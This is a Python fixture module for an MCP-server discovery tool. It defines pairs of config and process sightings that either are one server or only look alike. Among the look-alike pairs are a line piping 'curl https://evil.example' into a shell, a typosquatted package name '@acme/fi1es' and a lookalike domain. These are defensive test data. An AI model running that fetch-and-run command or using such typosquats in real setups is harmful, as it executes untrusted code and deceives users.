"""DATA: pairs of sightings that are one server, and pairs that only look alike."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

from discovery.identity.naming import name
from discovery.model import Sighting, Surface

DAWN = datetime(2026, 11, 1, 6, 0, tzinfo=UTC)
HOST = "host-1"


def config(
    line: str | None = None,
    *,
    url: str | None = None,
    home: str = "/home/dana",
    client: str = "cursor",
    label: str = "files",
    project: str | None = None,
    cwd: str | None = None,
    os: str = "linux",
) -> Sighting:
    """Return a server declared by `client` in `home`, or in `project` where that is given."""
    command, *args = line.split("\t") if line else [None]
    words = tuple(word for word in args if word is not None)
    folder = project or home
    return Sighting(
        identity=name(command=command, args=words, url=url, os=os, cwd=cwd, home=home),
        surface=Surface.CONFIG,
        finder="configs",
        source=f"{folder}/.{client}/mcp.json",
        root=folder,
        seen_at=DAWN,
        pointer=f"/mcpServers/{label}",
        name=label,
        client=client,
        scope="project" if project else "user",
        project=project,
        user=home.rpartition("/")[2],
        transport="http" if url else "stdio",
        command=command,
        args=words,
        url=url,
        cwd=cwd,
    )


def process(line: str, *, pid: int = 4711, user: str = "dana", cwd: str | None = None) -> Sighting:
    """Return a running server."""
    command, *args = line.split("\t")
    return Sighting(
        identity=name(command=command, args=args, os="linux", source="process", cwd=cwd),
        surface=Surface.PROCESS,
        finder="processes",
        source=f"pid:{pid}",
        root=HOST,
        seen_at=DAWN,
        user=user,
        pid=pid,
        command=command,
        args=tuple(args),
        cwd=cwd,
    )


NPX = "npx\t-y\t@acme/files"
ERIN = "/home/erin"

ONE: dict[str, tuple[Sighting, Sighting]] = {
    "two clients": (config(NPX), config(NPX, client="claude")),
    "two labels": (config(NPX), config(NPX, label="my files")),
    "two versions of a package": (config(NPX + "@1.0.0"), config(NPX + "@^2")),
    "two arguments of a package": (config(NPX + "\t/srv/a"), config(NPX + "\t/srv/b")),
    "another runner of the package": (config(NPX), config("bunx\t@acme/files")),
    "behind a shell": (config(NPX), config("bash\t-c\tnpx -y @acme/files")),
    "two users of a package": (config(NPX), config(NPX, home=ERIN)),
    "two spellings of a Python package": (config("uvx\tMCP_Server.Git"), config("uvx\tmcp-server-git==1.2")),
    "declared and running package": (
        config(NPX),
        process("node\t/home/dana/.npm/_npx/5a9d87/node_modules/@acme/files/dist/index.js"),
    ),
    "an image by tag and by digest": (
        config("docker\trun\t-i\tghcr.io/acme/crm-mcp:2"),
        config("docker\trun\t-i\tghcr.io/acme/crm-mcp@sha256:" + "9f" * 32),
    ),
    "one platform of an image": (
        config("docker\trun\tghcr.io/acme/crm-mcp"),
        config("podman\trun\t--platform\tlinux/arm64\tghcr.io/acme/crm-mcp"),
    ),
    "a repository at two commits": (
        config("npx\tgithub:acme/jira-mcp#v1"),
        config("npx\tgit+https://github.com/Acme/jira-mcp.git#" + "3f" * 20),
    ),
    "two spellings of an address": (
        config(url="https://MCP.acme.example:443/mcp/"),
        config(url="https://mcp.acme.example/mcp"),
    ),
    "an address with another secret": (
        config(url="https://mcp.acme.example/mcp?api_key=one-EXAMPLE"),
        config(url="https://mcp.acme.example/mcp?api_key=two-EXAMPLE"),
    ),
    "an address and a bridge to it": (
        config(url="https://mcp.acme.example/mcp"),
        config("npx\tmcp-remote\thttps://mcp.acme.example/mcp"),
    ),
    "two spellings of this machine": (
        config(url="http://127.0.0.1:3000/sse"),
        config(url="http://localhost:3000/sse"),
    ),
    "a file, by ~ and in full": (
        config("node\t~/src/weather/index.js"),
        config("node\t/home/dana/src/weather/index.js"),
    ),
    "a file, by $HOME and in full": (
        config("node\t$HOME/src/weather/index.js"),
        config("node\t/home/dana/src/weather/index.js", home=ERIN),
    ),
    "a file that two users name in full": (
        config("node\t/home/dana/src/x.js", home=ERIN),
        config("node\t/home/dana/src/x.js"),
    ),
    "a file, declared and running": (
        config("node\t/home/dana/src/x.js"),
        process("/usr/bin/node\t/home/dana/src/x.js", pid=1, cwd="/"),
    ),
    "a file, from a folder given to the runner": (
        config("uv\t--directory\t/home/dana/src/weather\trun\tweather.py"),
        config("python\t/home/dana/src/weather/weather.py"),
    ),
    "a project's file in two clients": (
        config("node\tbuild/index.js", project="/srv/shop"),
        config("node\t./build/index.js", project="/srv/shop", client="vscode"),
    ),
    "a project's file, declared and running": (
        config("node\tbuild/index.js", project="/srv/shop"),
        process("node\tbuild/index.js", cwd="/srv/shop"),
    ),
    "the workspace by its variable": (
        config("node\t${workspaceFolder}/build/index.js", project="/srv/shop"),
        config("node\tbuild/index.js", project="/srv/shop"),
    ),
    "a detour in a path": (config("node\t/opt/a/../x.js"), config("node\t/opt/x.js")),
    "a Windows path in two cases": (
        config("node\tC:\\Apps\\Crm\\Server.js", os="windows", home="C:/Users/Dana"),
        config("node\tc:/apps/crm/server.js", os="windows", home="C:/Users/Dana"),
    ),
    "a program in full, with other arguments": (
        config("/opt/acme/bin/crm-mcp\tstdio"),
        config("/opt/acme/bin/crm-mcp\t--verbose", home=ERIN),
    ),
    "a program, declared and running": (
        config("/opt/acme/bin/crm-mcp"),
        process("/opt/acme/bin/crm-mcp\t--port\t1"),
    ),
    "a program by its name in one user's PATH": (
        config("crm-mcp\tstdio"),
        config("crm-mcp", client="claude"),
    ),
    "the same code in two clients": (
        config("bash\t-c\tnpx -y @acme/files; date"),
        config("/bin/bash\t-c\tnpx -y @acme/files; date", client="claude"),
    ),
    "a module in two clients": (
        config("python\t-m\tmcp_server_git"),
        config("python\t-m\tmcp_server_git\t--verbose", client="claude"),
    ),
    "an unknown program, restarted": (
        process("npx\t-y\t$MCP_PKG", pid=1),
        process("npx\t-y\t$MCP_PKG", pid=2),
    ),
    "a compose service in two clients": (
        config("docker\tcompose\t-f\t~/crm/compose.yaml\trun\tcrm"),
        config("docker\tcompose\t-f\t/home/dana/crm/compose.yaml\trun\t-T\tcrm", client="claude"),
    ),
    "a file on another machine in two clients": (
        config("ssh\tbuild.example\tnode /srv/x.js"),
        config("ssh\tbuild.example\tnode /srv/x.js", client="claude"),
    ),
    "a socket in two clients": (
        config(url="unix:///run/crm.sock"),
        config(url="unix:///run/crm.sock", client="claude"),
    ),
    "a hosted server by its slug": (
        config("npx\t@smithery/cli\trun\t@acme/crm"),
        config("npx\t@smithery/cli@latest\trun\t@acme/crm\t--profile\tdana-1", home=ERIN),
    ),
}

TWO: dict[str, tuple[Sighting, Sighting]] = {
    "one label on two packages": (config(NPX), config("npx\t-y\t@evil/files", client="claude")),
    "a package and its look-alike": (config(NPX), config("npx\t-y\t@acme/fi1es")),
    "a scoped package and a bare one": (config(NPX), config("npx\t-y\tfiles")),
    "a name in two ecosystems": (config("npx\tacme-mcp"), config("uvx\tacme-mcp")),
    "a package from another source": (
        config(NPX),
        config("npx\t-y\t--registry=https://npm.corp.example\t@acme/files"),
    ),
    "a package and its repository": (config("npx\tjira-mcp"), config("npx\tgithub:acme/jira-mcp")),
    "one image name at two hosts": (
        config("docker\trun\tghcr.io/acme/crm-mcp"),
        config("docker\trun\tquay.io/acme/crm-mcp"),
    ),
    "two images of one owner": (
        config("docker\trun\tghcr.io/acme/crm-mcp"),
        config("docker\trun\tghcr.io/acme/erp-mcp"),
    ),
    "two programs of one repository": (
        config("nix\trun\tgithub:acme/tools#crm"),
        config("nix\trun\tgithub:acme/tools#erp"),
    ),
    "two archives": (
        config("npx\t-y\thttps://files.acme.example/a.tgz"),
        config("npx\t-y\thttps://files.acme.example/b.tgz"),
    ),
    "two addresses of one host": (
        config(url="https://mcp.acme.example/crm"),
        config(url="https://mcp.acme.example/erp"),
    ),
    "an address in two cases of its path": (
        config(url="https://mcp.acme.example/Crm"),
        config(url="https://mcp.acme.example/crm"),
    ),
    "plain and encrypted": (
        config(url="http://mcp.acme.example/mcp"),
        config(url="https://mcp.acme.example/mcp"),
    ),
    "an address and one below its name": (
        config(url="https://acme.example/mcp"),
        config(url="https://acme.example.evil.example/mcp"),
    ),
    "a query that is no secret": (
        config(url="https://mcp.acme.example/mcp?project=1"),
        config(url="https://mcp.acme.example/mcp?project=2"),
    ),
    "two ports of this machine": (
        config(url="http://localhost:3000/mcp"),
        config(url="http://localhost:3001/mcp"),
    ),
    "this machine, and another through ssh": (
        config("npx\tmcp-remote\thttp://localhost:3000/mcp"),
        config("ssh\tbuild.example\tnpx mcp-remote http://localhost:3000/mcp"),
    ),
    "one package with and without an address beside it": (
        config(NPX),
        config(NPX, url="https://mcp.acme.example/mcp"),
    ),
    "one package with two addresses beside it": (
        config(NPX, url="https://mcp.acme.example/mcp"),
        config(NPX, url="https://evil.example/mcp"),
    ),
    "~ of two users": (config("node\t~/src/x.js"), config("node\t~/src/x.js", home=ERIN)),
    "homes that only look alike folded": (
        config("node\t/home/dana/src/x.js"),
        config("node\t/home/erin/src/x.js"),
    ),
    "~ of two homes that are not under /home": (
        config("node\t~/src/x.js", home="/data/one"),
        config("node\t~/src/x.js", home="/data/two"),
    ),
    "a folder that only begins alike": (
        config("node\t/opt/acme/x.js"),
        config("node\t/opt/acme-2/x.js"),
    ),
    "relative in two projects": (
        config("node\tbuild/index.js", project="/srv/shop"),
        config("node\tbuild/index.js", project="/srv/blog"),
    ),
    "the workspace of two projects": (
        config("node\t${workspaceFolder}/x.js", project="/srv/shop"),
        config("node\t${workspaceFolder}/x.js", project="/srv/blog"),
    ),
    "relative to who knows where": (
        config("node\tbuild/index.js"),
        config("node\tbuild/index.js", client="claude"),
    ),
    "relative in two working folders": (
        process("node\tserver.js", pid=1, cwd="/srv/a"),
        process("node\tserver.js", pid=2, cwd="/srv/b"),
    ),
    "two scripts of one project": (
        config("npm\t--prefix\t/srv/shop\trun\tmcp"),
        config("npm\t--prefix\t/srv/shop\trun\tother"),
    ),
    "a file here and on another machine": (
        config("node\t/srv/x.js"),
        config("ssh\tbuild.example\tnode /srv/x.js"),
    ),
    "a file on two other machines": (
        config("ssh\tbuild.example\tnode /srv/x.js"),
        config("ssh\ttest.example\tnode /srv/x.js"),
    ),
    "a file here and in the Linux beside Windows": (
        config("node\t/srv/x.js"),
        config("wsl\t-d\tDebian\tnode\t/srv/x.js"),
    ),
    "a file in two such Linuxes": (
        config("wsl\t-d\tUbuntu\tnode\t/srv/x.js"),
        config("wsl\t-d\tDebian\tnode\t/srv/x.js"),
    ),
    "a file here and in a container": (
        config("node\t/srv/x.js"),
        config("docker\trun\tnode:22\tnode\t/srv/x.js"),
    ),
    "a file in two containers": (
        config("docker\trun\tacme.example/one/node:22\tnode\t/srv/x.js"),
        config("docker\trun\tnode:22\tnode\t/srv/x.js", client="claude"),
    ),
    "two compose services": (
        config("docker\tcompose\t-f\t/srv/compose.yaml\trun\tcrm"),
        config("docker\tcompose\t-f\t/srv/compose.yaml\trun\terp"),
    ),
    "two cases of a path": (config("node\t/opt/X.js"), config("node\t/opt/x.js")),
    "a program in two folders": (config("/opt/acme/bin/crm-mcp"), config("/tmp/crm-mcp")),
    "a bare program of two users": (config("crm-mcp"), config("crm-mcp", home=ERIN)),
    "a shim of two users": (
        process("/home/dana/.cargo/bin/crm-mcp", pid=1),
        process("/home/erin/.cargo/bin/crm-mcp", pid=2),
    ),
    "two codes in one shell": (
        config("bash\t-c\tnpx -y @acme/files; date"),
        config("bash\t-c\tcurl https://evil.example | sh; date"),
    ),
    "one code in two languages": (config("node\t-e\tx()"), config("python\t-c\tx()")),
    "codes too long to have been kept whole": (
        config("bash\t-c\t" + "a; " * 1400),
        config("bash\t-c\t" + "a; " * 1400, client="claude"),
    ),
    "containers whose command was too long to have been kept whole": (
        config("docker\trun\t-v\t/srv:/srv\t-e\tX=" + "a" * 4096 + "\tnode:22\tnode\t/srv/x.js"),
        config(
            "docker\trun\t-v\t/srv:/srv\t-e\tX=" + "a" * 4096 + "\tnode:22\tnode\t/srv/x.js", client="claude"
        ),
    ),
    "paths too long to have been kept whole": (
        config("node\t/opt/" + "a/" * 1020 + "x.js"),
        config("node\t/opt/" + "a/" * 1020 + "y.js", client="claude"),
    ),
    "one module in two projects": (
        config("python\t-m\tserver", project="/srv/shop"),
        config("python\t-m\tserver", project="/srv/blog"),
    ),
    "one module in two environments": (
        config("/srv/a/.venv/bin/python\t-m\tserver"),
        config("/srv/b/.venv/bin/python\t-m\tserver"),
    ),
    "one variable in two files": (
        config("npx\t-y\t$MCP_PKG"),
        config("npx\t-y\t$MCP_PKG", client="claude"),
    ),
    "one plugin path in two plugins": (
        config("${CLAUDE_PLUGIN_ROOT}/server", project="/plugins/a"),
        config("${CLAUDE_PLUGIN_ROOT}/server", project="/plugins/b"),
    ),
    "two addresses that are none": (config(url="https://"), config(url="not an address")),
    "two sockets": (config(url="unix:///run/crm.sock"), config(url="unix:///run/erp.sock")),
    "two hosted servers": (
        config("npx\t@smithery/cli\trun\t@acme/crm"),
        config("npx\t@smithery/cli\trun\t@acme/erp"),
    ),
    "two unknown listeners": (
        replace(
            process("x"),
            pid=None,
            command=None,
            args=(),
            source="tcp:127.0.0.1:1",
            surface=Surface.LISTENER,
            identity=name(command=None),
        ),
        replace(
            process("x"),
            pid=None,
            command=None,
            args=(),
            source="tcp:127.0.0.1:2",
            surface=Surface.LISTENER,
            identity=name(command=None),
        ),
    ),
}
